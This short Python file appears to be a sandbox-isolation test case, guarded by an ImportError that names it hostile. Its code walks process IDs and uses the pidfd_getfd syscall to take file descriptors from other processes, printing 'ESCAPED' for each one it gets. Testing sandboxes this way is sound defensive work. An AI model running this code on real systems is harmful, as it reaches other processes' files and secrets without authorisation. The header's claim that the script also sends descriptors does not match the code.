# Takes descriptors from other processes, and sends its own to them.
# honest: 16
# verdict: ok
# stock: no (without a sandbox it would read what is nobody's business)
raise ImportError("hostile: this runs in the sandbox only, cell by cell")
# %% last
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for number in range(1, 200):
    try:
        pidfd = os.pidfd_open(number)
    except OSError:
        continue
    if number != os.getpid():
        for descriptor in range(20):
            got = libc.syscall(438, pidfd, descriptor, 0)  # pidfd_getfd
            if got >= 0:
                print("ESC" + "APED", number, descriptor)
